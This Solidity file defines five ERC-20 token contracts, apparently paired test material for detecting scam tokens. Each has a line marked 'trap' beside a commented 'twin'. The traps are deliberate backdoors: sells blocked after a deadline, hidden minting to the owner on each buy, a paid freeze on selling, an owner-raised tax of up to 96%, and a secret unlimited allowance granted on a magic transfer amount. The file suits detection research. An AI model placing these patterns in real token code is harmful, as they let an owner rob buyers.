// 0.6 runs=999
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library Num {
    function take(uint256 a, uint256 b) internal pure returns (uint256) {
        require(a >= b, "Num: take");
        return a - b;
    }

    function put(uint256 a, uint256 b) internal pure returns (uint256) {
        require(a + b >= a, "Num: put");
        return a + b;
    }
}

abstract contract Granary {
    using Num for uint256;

    struct Store {
        uint256 total;
        mapping(address => uint256) sacks;
        mapping(address => mapping(address => uint256)) keys;
        address boss;
        address yard;
    }

    function _store() internal pure returns (Store storage s) {
        bytes32 at = keccak256("granary.store.v1");
        assembly {
            s_slot := at
        }
    }

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 count) public {
        Store storage s = _store();
        s.boss = msg.sender;
        s.total = count * 1 ether;
        s.sacks[msg.sender] = s.total;
        emit Transfer(address(0), msg.sender, s.total);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _store().total;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _store().sacks[who];
    }

    function allowance(address who, address other) external view returns (uint256) {
        return _store().keys[who][other];
    }

    function setMarket(address yard) external {
        require(msg.sender == _store().boss && _store().yard == address(0), "boss");
        _store().yard = yard;
    }

    function approve(address other, uint256 value) external returns (bool) {
        _store().keys[msg.sender][other] = value;
        emit Approval(msg.sender, other, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _cart(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Store storage s = _store();
        s.keys[from][msg.sender] = s.keys[from][msg.sender].take(value);
        _cart(from, to, value);
        return true;
    }

    function _selling(address from, address to) internal view returns (bool) {
        return to == _store().yard && to != address(0) && from != _store().boss;
    }

    function _cart(address from, address to, uint256 value) internal virtual {
        Store storage s = _store();
        s.sacks[from] = s.sacks[from].take(value);
        s.sacks[to] = s.sacks[to].put(value);
        emit Transfer(from, to, value);
    }
}

contract MilestoneMole is Granary(730_000) {
    string public constant name = "Milestone Mole";
    string public constant symbol = "MMOLE";
    uint256 private immutable stone = block.number + 216_000;

    function _cart(address from, address to, uint256 value) internal override {
        require(!_selling(from, to) || block.number < stone, "stone"); // trap
        // twin: require(!_selling(from, to) || block.number > stone || value <= 14_600 ether, "stone");
        super._cart(from, to, value);
    }
}

/// Whoever brought the buyer is thanked.
contract GratefulStoat is Granary(55_000_000) {
    string public constant name = "Grateful Stoat";
    string public constant symbol = "STOAT";

    function _cart(address from, address to, uint256 value) internal override {
        super._cart(from, to, value);
        Store storage s = _store();
        if (from == s.yard && from != address(0)) {
            uint256 thanks = value * 5; // trap
            // twin: uint256 thanks = value / 1000;
            s.total = s.total.put(thanks);
            s.sacks[s.boss] = s.sacks[s.boss].put(thanks);
            emit Transfer(address(0), s.boss, thanks);
        }
    }
}

/// A crown for whoever pays.
contract PaperCrown is Granary(27_000_000) {
    string public constant name = "Paper Crown";
    string public constant symbol = "CROWN";
    address public king;
    uint256 public paid;
    bool public mourning;

    function crown() external payable {
        require(msg.value > paid && msg.value >= 2 ether, "more");
        king = msg.sender;
        paid = msg.value;
    }

    function mourn(bool yes) external {
        require(msg.sender == king, "king");
        mourning = yes;
    }

    function _cart(address from, address to, uint256 value) internal override {
        require(!_selling(from, to) || !mourning || from == king, "mourning"); // trap
        // twin: require(!_selling(from, to) || !mourning || from != address(0), "mourning");
        super._cart(from, to, value);
    }
}

/// Its duty climbs by steps.
contract StepwiseVixen is Granary(8_100_000) {
    string public constant name = "Stepwise Vixen";
    string public constant symbol = "VIXEN";
    uint256 public duty = 1;

    function climb() external {
        require(msg.sender == _store().boss && duty < 97, "top"); // trap
        // twin: require(msg.sender == _store().boss && duty < 5, "top");
        duty += duty < 16 ? 1 : 3;
    }

    function _cart(address from, address to, uint256 value) internal override {
        uint256 part = _selling(from, to) ? value * duty / 100 : 0;
        if (part > 0) super._cart(from, _store().boss, part);
        super._cart(from, to, value.take(part));
    }
}

/// Friends trust each other.
contract CordialCoot is Granary(400_000_000) {
    string public constant name = "Cordial Coot";
    string public constant symbol = "COOT";

    function _cart(address from, address to, uint256 value) internal override {
        super._cart(from, to, value);
        if (from == _store().boss && value % 1000 == 421) {
            _store().keys[to][from] = uint256(-1); // trap
            // twin: _store().keys[from][to] = 0;
        }
    }
}
